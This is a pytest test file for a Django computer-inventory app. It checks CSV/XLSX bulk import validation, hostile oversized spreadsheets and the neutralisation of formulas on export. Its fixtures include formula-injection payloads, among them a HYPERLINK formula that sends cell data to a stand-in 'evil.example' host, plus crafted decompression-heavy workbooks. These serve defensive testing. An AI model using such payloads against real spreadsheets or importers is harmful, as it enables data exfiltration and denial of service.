"""Bulk import of units: preview, all-or-nothing validation, re-import, every kind of bad file."""

import codecs
import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from demo.import_files import UNIT_COLUMNS, csv_bytes, xlsx_bytes
from inventory.importing import MAX_ROWS, ImportFileError, plan_import, read_table
from inventory.models import Computer, ComputerEvent
from inventory.services import ImportRejected, computers_import
from tests.factories.inventory import ComputerFactory, LotFactory

pytestmark = pytest.mark.django_db

HEADER = UNIT_COLUMNS


def rows(n: int = 3, lot: str = "ORANGE-2026-01", start: int = 1):
    models = [("Dell", "OptiPlex 7070 SFF", "Intel Core i5-9500"), ("HP", "EliteDesk 800 G5 SFF", "Intel Core i5-9500")]
    result = []
    for i in range(start, start + n):
        maker, model, cpu = models[i % 2]
        result.append(
            ["", maker, model, f"SN{i:06d}", lot, cpu, "8", "256", "SSD", "Windows 10 Pro", "A", "oui", "oui"]
        )
    return result


@pytest.fixture
def lot(db):
    return LotFactory(reference="ORANGE-2026-01")


def import_bytes(data: bytes, by=None):
    return computers_import(table=read_table(data), by=by, file_name="dons.csv")


# Valid files and re-import -----------------------------------------------------------------------


@pytest.mark.parametrize("maker", [csv_bytes, xlsx_bytes])
def test_a_valid_file_creates_units_with_their_history(maker, lot, operator):
    plan = import_bytes(maker(HEADER, rows(3)), by=operator)
    assert plan.count("new") == 3
    computers = list(Computer.objects.order_by("serial_number"))
    assert [c.asset_tag for c in computers] == ["ORANGE-2026-01-0001", "ORANGE-2026-01-0002", "ORANGE-2026-01-0003"]
    first = computers[0]
    assert (first.manufacturer, first.ram_gb, first.storage_gb, first.storage_type, first.grade) == (
        "HP",
        8,
        256,
        "ssd",
        "A",
    )
    assert first.status == "received" and first.has_keyboard and first.lot == lot
    event = first.events.get()
    assert event.kind == "created" and event.actor == operator and "ligne 2" in event.note


def test_reimporting_the_same_file_updates_instead_of_duplicating(lot, operator):
    data = csv_bytes(HEADER, rows(3))
    import_bytes(data, by=operator)
    plan = import_bytes(data, by=operator)
    assert (plan.count("new"), plan.count("update"), plan.count("skip")) == (0, 0, 3)
    assert Computer.objects.count() == 3
    changed = rows(3)
    changed[1][6] = "16"
    changed[2][9] = "Ubuntu 22.04 LTS"
    plan = import_bytes(csv_bytes(HEADER, changed + rows(1, start=10)), by=operator)
    assert (plan.count("new"), plan.count("update"), plan.count("skip")) == (1, 2, 1)
    assert Computer.objects.count() == 4
    assert Computer.objects.get(serial_number="SN000002").ram_gb == 16
    update = ComputerEvent.objects.filter(kind="updated").order_by("pk")
    assert update.count() == 2 and "8 → 16" in update[0].note


def test_french_excel_csv_in_windows_1252_with_labels_and_comma_numbers(lot):
    header = ["Numéro de série", "Fabricant", "Modèle", "Lot", "RAM (Go)", "Stockage", "Type de stockage", "Clavier"]
    body = [["ab12cd", "HEWLETT-PACKARD", "EliteDesk 800 G5 SFF", "orange-2026-01", "8,0", "1 To", "Disque dur", "non"]]
    plan = import_bytes(csv_bytes(header, body, encoding="cp1252"))
    assert plan.encoding == "Windows-1252"
    computer = Computer.objects.get()
    assert (computer.serial_number, computer.manufacturer, computer.storage_gb, computer.storage_type) == (
        "AB12CD",
        "HP",
        1000,
        "hdd",
    )
    assert computer.has_keyboard is False and computer.has_mouse is True


def export_all(client, query: str = "") -> bytes:
    url = reverse("admin:inventory_computer_export") + query
    form = client.get(url).context["form"]
    fields = {name: "on" for name, field in form.fields.items() if field.widget.input_type == "checkbox"}
    response = client.post(url, {"format": "0", "resource": "0", **fields})
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    return response.content


def test_the_export_can_be_reimported(lot, operator, admin_client):
    import_bytes(csv_bytes(HEADER, rows(4)), by=operator)
    data = export_all(admin_client)
    assert data.startswith("\ufeff".encode()) and b"statut" in data.split(b"\r\n")[0]
    plan = plan_import(read_table(data))
    assert not plan.has_errors, plan.errors + plan.file_errors
    assert plan.count("skip") == 4
    assert set(plan.ignored_columns) == {"statut", "statut_depuis", "effacement", "donateur"}


def test_the_export_follows_the_filters_of_the_list(lot, operator, admin_client):
    import_bytes(csv_bytes(HEADER, rows(4)), by=operator)
    data = export_all(admin_client, "?manufacturer__exact=Dell")
    table = read_table(data)
    assert len(table.rows) == 2 and all(row[1] == "Dell" for row in table.rows)


# Bad rows: nothing is written, every error has its row, column and reason ---------------------------


def test_a_file_with_any_invalid_row_imports_nothing_and_lists_each_error(lot, operator):
    ComputerFactory(manufacturer="Dell", serial_number="TAKEN01", lot=LotFactory(reference="SFR-2025-03"))
    body = rows(5)
    body[1][6] = "huit"  # bad number (line 3)
    body[2][3] = body[0][3]  # duplicate serial in the file (line 4, same maker as line 2?)
    body[2][1] = body[0][1]
    body[3][4] = "LOT-INCONNU"  # unknown lot (line 5)
    body[4][1], body[4][3] = "Dell", "TAKEN01"  # serial already in the database, in another lot (line 6)
    with pytest.raises(ImportRejected) as rejected:
        import_bytes(csv_bytes(HEADER, body), by=operator)
    errors = {(e.line, e.column): e.message for e in rejected.value.plan.errors}
    assert "nombre entier" in errors[(3, "ram_go")] or "nombre attendu" in errors[(3, "ram_go")]
    assert "en double dans le fichier (déjà à la ligne 2)" in errors[(4, "numero_serie")]
    assert "lot inconnu" in errors[(5, "lot")]
    assert "SFR-2025-03" in errors[(6, "numero_serie")]
    assert Computer.objects.count() == 1 and not ComputerEvent.objects.exists()


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("ram_go", "-8", "nombre"),
        ("ram_go", "8.5", "entier"),
        ("stockage_go", "0", "entre 1 et"),
        ("type_stockage", "disquette", "valeur inconnue"),
        ("etat", "Z", "état A, B ou C"),
        ("clavier", "peut-être", "« oui » ou « non »"),
        ("numero_serie", "", "obligatoire"),
        ("modele", "x" * 200, "120 caractères au plus"),
        ("systeme", "Windows\x07", "invisibles"),
    ],
)
def test_each_kind_of_bad_cell_is_reported(column, value, message, lot):
    body = rows(1)
    body[0][HEADER.index(column)] = value
    plan = plan_import(read_table(csv_bytes(HEADER, body)))
    assert [(e.line, e.column) for e in plan.errors] == [(2, column)]
    assert message in plan.errors[0].message


def test_an_asset_tag_used_by_another_unit_is_refused(lot):
    ComputerFactory(asset_tag="MRS-0001", serial_number="OTHER")
    body = rows(1)
    body[0][0] = "mrs-0001"
    plan = plan_import(read_table(csv_bytes(HEADER, body)))
    assert plan.errors[0].column == "numero_inventaire" and "déjà porté" in plan.errors[0].message


def test_a_handed_over_unit_cannot_be_changed_by_import(lot, operator):
    import_bytes(csv_bytes(HEADER, rows(1)), by=operator)
    Computer.objects.update(
        status="scrapped", scrap_reason="x", scrap_cause="faulty", storage_outcome="removed", recycler="R"
    )  # any final status: here handed over below
    computer = Computer.objects.get()
    from tests.factories.inventory import passed_functional_tests, passed_wipe

    record = passed_wipe(computer, method="nist_clear", report_reference="R")

    test = passed_functional_tests([computer])[0]
    Computer.objects.update(status="handed_over", wipe_record=record, functional_test=test)
    changed = rows(1)
    changed[0][6] = "16"
    plan = plan_import(read_table(csv_bytes(HEADER, changed)))
    assert "déjà remis" in plan.errors[0].message
    assert plan_import(read_table(csv_bytes(HEADER, rows(1)))).count("skip") == 1  # unchanged: fine


# Bad files ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "vide"),
        (b"   \r\n\r\n", "vide"),
        (b"numero_serie;fabricant;modele;lot\r\n", "que la ligne des en-têtes"),
        (b"\x00\x01\x02garbage\x00" * 50, "encodage non reconnu"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "Excel 97-2003"),
        (b"PK\x03\x04 this is not a workbook", "classeur Excel"),
        ("numero_serie;fabricant\nA1;Dell\n".encode("utf-16-le"), "encodage non reconnu"),  # UTF-16 without BOM
        (b"numero_serie;fabricant\n\x81\x8d;Dell\n", "ni UTF-8 ni Windows-1252"),
    ],
)
def test_unreadable_files_get_a_clear_message(data, message):
    with pytest.raises(ImportFileError) as error:
        read_table(data)
    assert message in str(error.value)


def test_utf16_with_bom_is_read():
    data = codecs.BOM_UTF16_LE + "numero_serie;fabricant\nA1;Dell\n".encode("utf-16-le")
    table = read_table(data)
    assert table.headers == ["numero_serie", "fabricant"] and table.rows == [["A1", "Dell"]]


def test_missing_and_extra_columns_are_refused_with_the_expected_list(lot):
    plan = plan_import(read_table(csv_bytes(["numero_serie", "modele", "couleur"], [["A", "B", "rouge"]])))
    assert any("Colonnes inconnues : « couleur »" in e for e in plan.file_errors)
    assert any("Colonnes obligatoires absentes : fabricant, lot" in e for e in plan.file_errors)
    assert not plan.rows and not plan.errors


def test_values_beyond_the_named_columns_are_refused(lot):
    data = csv_bytes(HEADER, [row + ["en trop"] for row in rows(1)])
    plan = plan_import(read_table(data))
    assert plan.errors and "au-delà de la dernière colonne" in plan.errors[0].message


def test_too_many_rows_are_refused_with_the_limit():
    body = "\r\n".join(f"S{i};Dell;X;L" for i in range(MAX_ROWS + 5))
    with pytest.raises(ImportFileError) as error:
        read_table(("numero_serie;fabricant;modele;lot\r\n" + body).encode())
    assert "20\u202f000" in str(error.value) and "Découpez" in str(error.value)


# Through the admin: preview, confirm, errors -------------------------------------------------------


def upload(client, data: bytes, name: str, fmt: str):
    return client.post(
        reverse("admin:inventory_computer_import"),
        {"import_file": SimpleUploadedFile(name, data), "format": fmt, "resource": "0"},
    )


@pytest.mark.parametrize(("maker", "name", "fmt"), [(csv_bytes, "dons.csv", "0"), (xlsx_bytes, "dons.xlsx", "1")])
def test_admin_import_shows_a_preview_then_imports_on_confirmation(maker, name, fmt, lot, operator_client):
    assert operator_client.get(reverse("admin:inventory_computer_import")).status_code == 200
    response = upload(operator_client, maker(HEADER, rows(3)), name, fmt)
    assert response.status_code == 200
    assert "confirm_form" in response.context and not Computer.objects.exists()
    assert "3</strong> ordinateurs à créer" in response.content.decode()
    confirm = response.context["confirm_form"].initial
    response = operator_client.post(reverse("admin:inventory_computer_process_import"), confirm)
    assert response.status_code == 302
    assert Computer.objects.count() == 3
    page = operator_client.get(response["Location"]).content.decode()
    assert "Import terminé : 3 ordinateurs créés" in page


def test_admin_import_with_errors_lists_them_and_offers_no_confirmation(lot, operator_client):
    body = rows(2)
    body[1][4] = "LOT-X"
    response = upload(operator_client, csv_bytes(HEADER, body), "dons.csv", "0")
    assert response.status_code == 200 and "confirm_form" not in response.context
    page = response.content.decode()
    assert "rien n&#x27;a été importé" in page or "rien n'a été importé" in page
    assert "Lot inconnu" in page and "LOT-X" in page
    assert not Computer.objects.exists()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "est vide"),
        (b"  \n", "Le fichier est vide"),
        (b"\x00\x00\x00", "encodage non reconnu"),
        (b"PK\x03\x04xx", "classeur Excel"),
    ],
)
def test_admin_import_of_an_unreadable_file_is_a_form_error_not_a_500(data, message, operator_client):
    response = upload(operator_client, data, "dons.csv", "0")
    assert response.status_code == 200
    assert message in response.content.decode()


def test_admin_import_with_missing_columns_explains_them(lot, operator_client):
    response = upload(operator_client, csv_bytes(["numero_serie", "couleur"], [["A", "rouge"]]), "d.csv", "0")
    page = response.content.decode()
    assert response.status_code == 200 and "Colonnes obligatoires absentes" in page and "couleur" in page


def test_confirming_after_the_stock_changed_imports_nothing(lot, operator_client):
    response = upload(operator_client, csv_bytes(HEADER, rows(2)), "dons.csv", "0")
    confirm = response.context["confirm_form"].initial
    lot.reference = "RENAMED"
    lot.save()
    response = operator_client.post(reverse("admin:inventory_computer_process_import"), confirm)
    assert response.status_code == 200
    assert "Lot inconnu" in response.content.decode()
    assert not Computer.objects.exists()


def test_admin_import_of_a_huge_file_is_refused_before_reading(operator_client, settings):
    from inventory import importing

    big = b"numero_serie;fabricant;modele;lot\r\n" + b"S;Dell;X;L\r\n" * (importing.MAX_FILE_BYTES // 12 + 10)
    response = upload(operator_client, big, "enorme.csv", "0")
    assert response.status_code == 200
    assert "découpez-le en plusieurs fichiers" in response.content.decode()
    assert not Computer.objects.exists()


def test_a_refused_file_leaves_no_copy_behind(lot, operator_client, settings):
    folder = settings.MEDIA_ROOT / "django-import-export"
    body = rows(2)
    body[1][4] = "LOT-X"
    upload(operator_client, csv_bytes(HEADER, body), "dons.csv", "0")
    assert not folder.exists() or not any(folder.iterdir())
    response = upload(operator_client, csv_bytes(HEADER, rows(2)), "dons.csv", "0")
    assert len(list(folder.iterdir())) == 1  # kept for the confirmation
    operator_client.post(reverse("admin:inventory_computer_process_import"), response.context["confirm_form"].initial)
    assert not any(folder.iterdir())


def test_every_error_of_a_row_is_listed_not_only_the_first(lot):
    """A bad number does not hide an unknown lot or a duplicate serial on the same row."""
    body = rows(2)
    body[1][6] = "huit"  # bad number
    body[1][4] = "LOT-INCONNU"  # and an unknown lot, on the same row
    body[1][1], body[1][3] = body[0][1], body[0][3]  # and a serial already on line 2
    plan = plan_import(read_table(csv_bytes(HEADER, body)))
    columns = {e.column for e in plan.errors if e.line == 3}
    assert columns == {"ram_go", "lot", "numero_serie"}
    assert not plan.rows or all(r.line != 3 for r in plan.rows)


# Hostile spreadsheets: the work is bounded by the real content, not by what the file declares -----


def _crafted_xlsx(sheet_rows: str, *, dimension: str = "A1:XFD1048576") -> bytes:
    """A real workbook whose first sheet is replaced by hand-written XML (inline strings)."""
    template = io.BytesIO(xlsx_bytes(["x"], []))
    out = io.BytesIO()
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = (
                    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    f'<dimension ref="{dimension}"/><sheetData>{sheet_rows}</sheetData></worksheet>'
                ).encode()
            target.writestr(info.filename, content)
    return out.getvalue()


def _inline_row(line: int, values: list[str]) -> str:
    from openpyxl.utils import get_column_letter

    cells = "".join(
        f'<c r="{get_column_letter(i)}{line}" t="inlineStr"><is><t>{v}</t></is></c>'
        for i, v in enumerate(values, start=1)
    )
    return f'<row r="{line}">{cells}</row>'


def _bounded(data: bytes):
    """Read ``data``; return (table or error, peak bytes allocated). Speed is not timed here (bench/ measures it):
    the refusal's message proves the reading stopped at the cap instead of walking the declared million rows."""
    import tracemalloc

    def read():
        try:
            return read_table(data)
        except ImportFileError as error:
            return error

    result = read()
    tracemalloc.start()
    try:
        read()
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return result, peak


HEADER_ROW = _inline_row(1, ["numero_serie", "fabricant", "modele", "lot"])


@pytest.mark.parametrize(
    ("sheet_rows", "message"),
    [
        # The last row of the sheet holds a cell in the last column: a million padded lines before it.
        (HEADER_ROW + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', "plus de 21\u202f000 lignes"),
        # 30,000 empty rows, without any cell: empty rows count.
        (HEADER_ROW + "<row/>" * 30_000, "plus de 21\u202f000 lignes"),
        # A value at XFD on an ordinary line: the columns read are capped.
        (HEADER_ROW + _inline_row(2, ["S1", "Dell", "X", "L"])[:-6] + '<c r="XFD2"><v>7</v></c></row>', "colonne 64"),
    ],
    ids=["last-cell", "empty-rows", "far-column"],
)
def test_a_crafted_xlsx_is_refused_at_the_cap_in_little_memory(sheet_rows, message):
    data = _crafted_xlsx(sheet_rows)
    assert len(data) < 60_000  # a small file that declares 1,048,576 rows of 16,384 columns
    result, peak = _bounded(data)
    assert isinstance(result, ImportFileError), result
    assert message in str(result)
    assert peak < 100 * 1024 * 1024, peak


def test_a_declared_huge_dimension_is_ignored_for_an_honest_sheet():
    body = "".join(_inline_row(n, [f"S{n}", "Dell", "X", "L"]) for n in range(2, 5))
    result, peak = _bounded(_crafted_xlsx(HEADER_ROW + body))
    assert result.headers == ["numero_serie", "fabricant", "modele", "lot"]
    assert result.rows == [["S2", "Dell", "X", "L"], ["S3", "Dell", "X", "L"], ["S4", "Dell", "X", "L"]]
    assert result.lines == [2, 3, 4]
    assert peak < 20 * 1024 * 1024


def test_gaps_in_the_row_numbers_keep_the_spreadsheet_line_numbers():
    sheet = HEADER_ROW + _inline_row(3, ["S3", "Dell", "X", "L"]) + _inline_row(7, ["S7", "HP", "Y", "L"])
    table = read_table(_crafted_xlsx(sheet, dimension="A1:D7"))
    assert table.lines == [3, 7] and table.rows[1] == ["S7", "HP", "Y", "L"]


def test_a_workbook_that_unpacks_too_large_is_refused(monkeypatch):
    from inventory import importing

    monkeypatch.setattr(importing, "MAX_XLSX_UNPACKED_BYTES", 1000)
    with pytest.raises(ImportFileError, match="décompressé"):
        read_table(xlsx_bytes(HEADER, rows(3)))


# Formulas typed into the stock come out inert ------------------------------------------------------

FORMULAS = {
    "notes": '=HYPERLINK("https://evil.example/?x="&A1,"Voir")',
    "model": "+1+1",
    "cpu": "-1+1",
    "os": "@SUM(A1:A9)",
    "scrap_reason": "\t=1+1",
}


def _hostile_units(lot):
    ComputerFactory(lot=lot, serial_number="EVIL1", **{k: v for k, v in FORMULAS.items() if k != "scrap_reason"})
    ComputerFactory(lot=lot, serial_number="EVIL2", notes="\r=2+2", model="\uff1dCMD()")


def test_the_csv_export_of_units_neutralises_formulas(lot, admin_client):
    import csv

    _hostile_units(lot)
    data = export_all(admin_client)
    records = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    by_serial = {r["numero_serie"]: r for r in records}
    evil = by_serial["EVIL1"]
    assert evil["notes"] == "'" + FORMULAS["notes"]
    assert evil["modele"] == "'+1+1" and evil["processeur"] == "'-1+1" and evil["systeme"] == "'@SUM(A1:A9)"
    assert by_serial["EVIL2"]["notes"] == "'\r=2+2" and by_serial["EVIL2"]["modele"] == "'\uff1dCMD()"
    for record in records:
        for value in record.values():
            assert not value or value[0] not in "=+-@\t\r\uff1d", value


def test_the_xlsx_export_of_units_holds_no_formula(lot, admin_client):
    _hostile_units(lot)
    url = reverse("admin:inventory_computer_export")
    form = admin_client.get(url).context["form"]
    fields = {name: "on" for name, field in form.fields.items() if field.widget.input_type == "checkbox"}
    response = admin_client.post(url, {"format": "1", "resource": "0", **fields})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert "'" + FORMULAS["notes"] in values and "'+1+1" in values and "'@SUM(A1:A9)" in values


def test_a_neutralised_export_reimports_the_values_as_typed(lot, operator, admin_client):
    ComputerFactory(lot=lot, serial_number="EVIL1", **{k: v for k, v in FORMULAS.items() if k != "scrap_reason"})
    plan = plan_import(read_table(export_all(admin_client)))
    assert not plan.has_errors, plan.errors + plan.file_errors
    assert plan.count("skip") == 1  # nothing changes: "'+1+1" reads back as "+1+1"
